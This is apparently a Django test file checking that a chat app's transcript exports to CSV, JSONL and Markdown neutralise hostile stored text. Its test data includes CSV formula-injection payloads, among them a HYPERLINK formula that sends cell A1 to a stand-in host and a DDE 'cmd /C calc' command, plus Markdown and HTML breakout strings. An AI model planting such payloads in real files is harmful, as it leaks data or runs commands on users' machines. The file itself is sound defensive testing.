"""Every text that may do harm, in every column and every way out: a file holds it as it was, and nothing in it runs."""

import csv
import io
import json
import re
import tempfile
from io import StringIO
from pathlib import Path
from unittest import skipIf

from django.core.management import call_command
from django.db import connection
from django.db.models import CharField, TextField
from django.test import TestCase
from markdown_it import MarkdownIt

from streaming_chat.exports.markdown import export_markdown
from streaming_chat.exports.rows import to_json
from streaming_chat.exports.transcripts import _COLUMNS, FORMATS, escape_formula, export
from streaming_chat.models import Conversation, Feedback, Message
from streaming_chat.rendering.markdown_html import markdown as rendered
from tests.admin.searching import kept
from tests.factories import make_conversation, make_message, make_reply, make_staff, make_user
from tests.hostile import HOSTILE
from tests.hostile_rows import make_rows
from tests.rendering.test_markdown import Elements

LIST = "/admin/streaming_chat/conversation/"
EXPORTER = ("view_conversation", "view_transcript", "export_transcript")
FORMULA = '=HYPERLINK("https://canary.example/?"&A1,"x")'
UNSEEN = ("", " ", "\u00a0", "\u3000", "\u200b", "\ufeff")
FORMULAS = [
    *(f"{before}{sign}1+1" for sign in "=+-@＝＋－＠﹦﹢﹣﹫" for before in UNSEEN),
    *(f"{before}{FORMULA}" for before in ("\t", "\r", "\n", "\r\n", "\v", "\f", "\x01", "\x1b", "\u202e", "\u2028")),
    *(f"{before}{FORMULA}" for before in "\u034f\u115f\u1160\u180e\u2800\u3164\ufe0f\uffa0\ufffb\U000e0041"),
    *("\ttext", "\rtext", "\ntext", "=", "-", '+"a";\n=1'),
    *("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
]
# What ends a line, a cell or a row somewhere.
BREAKS = [
    *("a\u2028b\u2029c\x85d\x0be\x0cf\x1cg\x1dh\x1ei", "a\rb\r\nc\n\nd\n", "a;b\tc|d,e"),
    *(
        '"',
        '""',
        '","',
        '"\r\n"a","b"\r\n',
        "\\",
        '\\"',
        "'",
        "]}\n",
        '"}, {"id": "x"}\n',
        "\ufeff",
        "\x7f\x9b1m\x1b[2J",
    ),
]
# What would be a message's beginning in a Markdown file, or end the block that a text stands in.
HEADING = "## Assistant, 2026-11-28T10:00:00+00:00\n\n- Message: `x`"
MARKS = [
    *(f"{fence}\n{HEADING}\n\n{fence}text\ny" for fence in ("```", "~~~", "`" * 9)),
    *("## Assistant\r\n", "\r## Assistant\r", "a\r```\r# b", "a\n===", "---\ntitle: x\n---", "    # a"),
    *(
        f"{before}```\n{after}# a"
        for before, after in ((" ", ""), ("   ", ""), ("\t", ""), ("> ", "> "), ("- ", ""), ("\\", ""))
    ),
    *("`", "``", "` `` ```", "`" * 200, "``` ```", "&#96;&#96;&#96;\n# a"),
    *("[r]: https://canary.example\n\n[r]", "https://canary.example <https://canary.example>"),
    *("<!--", "<pre>", "</code></pre><h2>a"),
]
TEXTS = [*HOSTILE.values(), *FORMULAS, *BREAKS, *MARKS]


def written(form: str, *, has_reviews: bool = False) -> bytes:
    made = FORMATS[form](has_reviews=has_reviews)
    return b"".join(chunk.data for chunk in export(Conversation.objects.all(), made))


def markdown(conversation: Conversation) -> str:
    return b"".join(chunk.data for chunk in export_markdown(conversation.pk)).decode()


def cells(data: bytes) -> list[dict[str, str]]:
    """Return the rows of a CSV file, as Python reads them; the header is none."""
    return list(csv.DictReader(io.StringIO(data.decode().removeprefix("\ufeff"), newline="")))


class CsvFacts:
    def test_no_cell_of_any_column_is_a_formula(self):
        """By the rule of https://owasp.org/www-community/attacks/CSV_Injection, and what a program may leave out before."""
        hidden = "\u034f\u115f\u1160\u180e\u2800\u3164\ufe0f\uffa0\ufffb\U000e0041"
        unseen = rf"[{hidden}\s\x00-\x20\x7f\xa0\xad\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff]*"
        dangerous = re.compile(rf"[\t\r\n]|{unseen}[=+\-@＝＋－＠﹦﹢﹣﹫]")
        found = {(name, cell) for row in self.cells.values() for name, cell in row.items() if dangerous.match(cell)}

        assert found == set()

    def test_each_cell_is_what_is_stored_but_for_an_apostrophe_before_a_formula(self):
        for rows in self.rows:
            row = self.cells[str(rows.reply.pk)]
            stored = {
                **{name: getattr(rows.reply, name) for name in ("text", "end_reason", "ref", "provider", "model")},
                **{name: getattr(rows.reply, name) for name in ("request_id", "finish_reason")},
                "title": rows.conversation.title,
                "owner": rows.owner.username,
                "comments": rows.text,
            }
            for name, value in stored.items():
                with self.subTest(column=name, text=value):
                    assert row[name] in (value, f"'{value}")
                    assert row[name] == value or escape_formula(value) != value
            assert self.cells[str(rows.failed.pk)]["error_code"] in (rows.text[:64], f"'{rows.text[:64]}")

    def test_no_column_of_text_is_left_out_of_these_tests(self):
        filled = {"text", "end_reason", "error_code", "ref", "provider", "model", "request_id", "finish_reason"}
        of_message = {field.name for field in Message._meta.concrete_fields if isinstance(field, CharField | TextField)}

        assert of_message & {*_COLUMNS} == filled | {
            "role",
            "origin",
            "status",
            "effort",
            "output_name",
            "output_error",
        }

    def test_the_key_of_a_visitor(self):
        """Every key begins so, and none of these letters begins a formula."""
        for text in FORMULAS:
            conversation = Conversation.objects.create(owner_key=f"v:{text[:100]}", title=text)
            make_message(conversation, text)
        keys = {row["owner_key"] for row in cells(written("csv"))}

        assert {f"v:{text[:100]}" for text in FORMULAS} <= keys

    def test_rows_are_whole(self):
        found = list(csv.reader(io.StringIO(written("csv").decode().removeprefix("\ufeff"), newline="")))

        assert {len(row) for row in found} == {len(_COLUMNS)}
        assert len(found) == 1 + Message.objects.count()

    def test_spreadsheets_are_told_that_it_is_utf_8(self):
        assert written("csv").startswith(b"\xef\xbb\xbf")


class JsonlFacts:
    def test_each_line_is_an_object_with_what_is_stored(self):
        """A line ends at a line feed, and nowhere else; the lines of some readers end at U+2028, too, which is in none."""
        lines = written("jsonl").split(b"\n")
        found = {line["id"]: line for line in map(json.loads, lines[:-1])}

        assert lines[-1] == b""
        assert len(found) == 2 * len(TEXTS)
        for rows in self.rows:
            with self.subTest(rows.text):
                self.check(found[str(rows.conversation.pk)], rows)
                assert found[str(rows.visitors.pk)]["owner_key"] == rows.visitors.owner_key

    def check(self, line, rows):
        text = rows.text
        messages = {message["id"]: message for message in line["messages"]}
        reply = messages[str(rows.reply.pk)]

        assert (line["title"], line["system_prompt"], line["model"]) == (text[:200], text, text)
        assert line["metadata"] == {text: text, "nested": {text: [text]}}
        assert line["owner"] == rows.owner.username
        assert [message["text"] for message in line["messages"]] == [text, "", text, ""]
        assert (reply["parts"], reply["feedback"][0]["comment"]) == (rows.reply.parts, text)
        assert reply["feedback"][0]["by"] == rows.judge.username
        (call,) = reply["tool_calls"]
        assert (call["name"], call["arguments"], call["output"]) == (text[:255], text, text)
        assert call["answer"] == {"approved": True, "arguments": text, "reason": text}
        for name in ("provider", "model", "request_id", "ref", "finish_reason", "end_reason"):
            assert reply[name] == getattr(rows.reply, name)

    def test_one_owners_data(self):
        for rows in self.rows:
            out = StringIO()
            call_command("exportowner", rows.owner.username, stdout=out)
            found = json.loads(out.getvalue())

            assert found["username"] == rows.owner.username
            self.check(found["conversations"][0], rows)

    def test_a_visitors_data_by_any_key(self):
        for rows in self.rows:
            out = StringIO()
            call_command("exportowner", rows.visitors.owner_key, stdout=out)

            assert json.loads(out.getvalue())["conversations"][0]["title"] == rows.text[:200]


@skipIf(connection.vendor == "postgresql", "PostgreSQL takes no such text.")
class HalfCharacterTests(TestCase):
    """SQLite keeps JSON as it was escaped, and a site may have cut what it sets between the two halves of a character."""

    def test_it_ends_no_file_and_no_page(self):
        conversation = make_conversation(metadata={"page": "Rain \ud83c", "\ud83c": ["\udf27"]})
        make_reply(conversation)
        make_conversation(title="The next one")
        self.client.force_login(make_staff("staff", *EXPORTER))
        lines = [json.loads(line) for line in written("jsonl").splitlines()]
        page = self.client.get(f"{LIST}{conversation.pk}/change/")

        assert lines[0]["metadata"] == {"page": "Rain \ufffd", "\ufffd": ["\ufffd"]}
        assert lines[1]["title"] == "The next one"
        assert "Rain \ufffd" in markdown(conversation)
        assert "Rain \ufffd" in page.content.decode()


class MarkdownFacts:
    def test_no_text_is_a_heading_a_fact_or_the_end_of_another(self):
        """Read as CommonMark: the headings are those of the messages, and each block is one text, whole."""
        for rows in self.rows:
            with self.subTest(rows.text):
                tokens = MarkdownIt("commonmark").parse(markdown(rows.conversation))
                headings = [tokens[at + 1].content for at, token in enumerate(tokens) if token.type == "heading_open"]
                blocks = [token.content for token in tokens if token.type == "fence"]

                assert headings[0] == f"Conversation {rows.conversation.pk}"
                assert [heading.partition(",")[0] for heading in headings[1:]] == ["User", "Assistant", "User"]
                assert blocks == [self.read(text) for text in self.texts(rows)]
                assert {token.type for token in tokens} <= _STRUCTURE
                assert {inline.type for token in tokens for inline in token.children or ()} <= _INLINE

    def texts(self, rows):
        # As they are stored: PostgreSQL has its own order of keys.
        rows.conversation.refresh_from_db(fields=["metadata"])
        rows.reply.refresh_from_db(fields=["parts"])
        parts = [{"kind": part.pop("kind"), **part} for part in rows.reply.parts[2:]]
        metadata, *others = map(to_json, (rows.conversation.metadata, *parts))
        return [rows.text, metadata, rows.text, rows.text, rows.text, *others, rows.text]

    def read(self, text):
        """Return a block as CommonMark reads it, which knows one kind of line break."""
        return re.sub("\r\n?", "\n", f"{text}\n")

    def test_facts_are_each_on_a_line_of_their_own(self):
        for rows in self.rows:
            with self.subTest(rows.text):
                tokens = MarkdownIt("commonmark").parse(markdown(rows.conversation))
                spans = [token for token in tokens if token.type == "inline" and token.content.startswith("Model:")]
                shown = [child.content for token in spans for child in token.children if child.type == "code_inline"]

                assert shown == [" ".join(rows.text.split())] * 2

    def test_the_strictest_and_the_laxest_reader_make_nothing_of_it(self):
        """Our own renderer, which knows tables and strikes out; and one that lets HTML through."""
        for rows in self.rows:
            page = markdown(rows.conversation)
            for html in (rendered(page), MarkdownIt("commonmark", {"html": True}).render(page)):
                with self.subTest(rows.text):
                    assert Elements(html).tags <= {"h1", "h2", "ul", "li", "p", "code", "pre"}
                    assert "[Image:" not in re.sub("<code.*?</code>", "", html, flags=re.DOTALL)

    def test_what_lies_beyond_a_cut_is_fenced_too(self):
        for text in MARKS:
            conversation = make_conversation()
            reply = make_reply(conversation, f"a{text}", status="stopped", end_reason="user", cut_position=2)
            Feedback.objects.create(message=reply, value=1, comment=text, owner_key="v:1")
            tokens = MarkdownIt("commonmark").parse(markdown(conversation))
            blocks = [token.content for token in tokens if token.type == "fence"]

            assert blocks == [self.read(each) for each in ("Will it rain?", "a", text, text)]


class FileTests(CsvFacts, JsonlFacts, MarkdownFacts, TestCase):
    """The facts share their rows, because making these takes longer than writing a file."""

    @classmethod
    def setUpTestData(cls):
        cls.rows = [make_rows(text, number) for number, text in enumerate(TEXTS)]
        cls.cells = {row["message"]: row for row in cells(written("csv"))}


_STRUCTURE = {
    *(f"{name}_{end}" for name in ("heading", "paragraph", "bullet_list", "list_item") for end in ("open", "close")),
    *("inline", "fence"),
}
_INLINE = {"text", "code_inline"}


class WaysOutTests(TestCase):
    """The action, the button of the list and the page of one write the same bytes, under the same headers.

    The command writes the reviews as well.
    """

    @classmethod
    def setUpTestData(cls):
        cls.rows = [make_rows(text, number) for number, text in enumerate(HOSTILE.values())]
        cls.staff = make_staff(f"{HOSTILE['image handler']}{FORMULA}", *EXPORTER)

    def setUp(self):
        self.client.force_login(self.staff)

    def body(self, response):
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    def posts(self, form):
        """Return the responses of every way to all conversations in the admin."""
        chosen = [str(pk) for pk in Conversation.objects.values_list("pk", flat=True)]
        some = {"action": f"export_{form}", "_selected_action": chosen, "index": "0"}
        return [
            self.client.post(LIST, some),
            self.client.post(LIST, {**some, "select_across": "1"}),
            self.client.post(f"{LIST}export/{form}/"),
        ]

    def test_all_of_them(self):
        for form in FORMATS:
            whole = written(form)
            for response in self.posts(form):
                assert self.body(response) == whole
            with tempfile.TemporaryDirectory() as folder:
                path = Path(folder, "out")
                call_command(
                    "exporttranscripts", f"--format={form}", f"--output={path}", stdout=StringIO(), stderr=StringIO()
                )

                assert path.read_bytes() == written(form, has_reviews=True)

    def test_one_of_them(self):
        for rows in self.rows:
            url = f"{LIST}{rows.conversation.pk}/export"
            line = self.body(self.client.post(f"{url}/jsonl/"))

            assert json.loads(line)["title"] == rows.text[:200]
            assert self.body(self.client.post(f"{url}/markdown/")).decode() == markdown(rows.conversation)

    def test_a_browser_saves_it_under_a_name_without_text_and_shows_none_of_it(self):
        one = self.rows[0].conversation.pk
        types = {"jsonl": "application/x-ndjson", "csv": "text/csv", "markdown": "text/markdown"}
        answers = [(form, "transcripts", answer) for form in FORMATS for answer in self.posts(form)]
        answers += [
            (
                form,
                f"conversation-{one}",
                self.client.post(f"{LIST}{one}/export/{form}/", {"message": self.rows[0].reply.pk}),
            )
            for form in types
        ]
        for form, name, answer in answers:
            suffix = "md" if form == "markdown" else form
            named = rf'attachment; filename="{name}(-\d{{4}}-\d\d-\d\d-\d{{4}})?\.{suffix}"'

            assert re.fullmatch(named, answer["Content-Disposition"])
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert answer["Content-Type"] == f"{types[form]}; charset=utf-8"
            assert "no-store" in answer["Cache-Control"]

    def test_what_is_sought_names_no_file_and_no_format(self):
        for text in HOSTILE.values():
            answer = self.client.post(f"{LIST}export/csv/", query_params=kept(self.client, {"q": text}))

            assert re.fullmatch(r'attachment; filename="transcripts-[\d-]+\.csv"', answer["Content-Disposition"])
            assert (
                self.client.post(f"{LIST}{self.rows[0].conversation.pk}/export/x/", {"message": text}).status_code
                == 404
            )

    def test_names_of_users_in_a_file_of_the_command(self):
        with tempfile.TemporaryDirectory() as folder:
            for number, rows in enumerate(self.rows):
                path = Path(folder, str(number))
                call_command(
                    "exporttranscripts",
                    f"--owner={rows.owner.username}",
                    f"--output={path}",
                    stdout=StringIO(),
                    stderr=StringIO(),
                )

                assert json.loads(path.read_text())["id"] == str(rows.conversation.pk)

        assert make_user(self.staff.username).pk == self.staff.pk
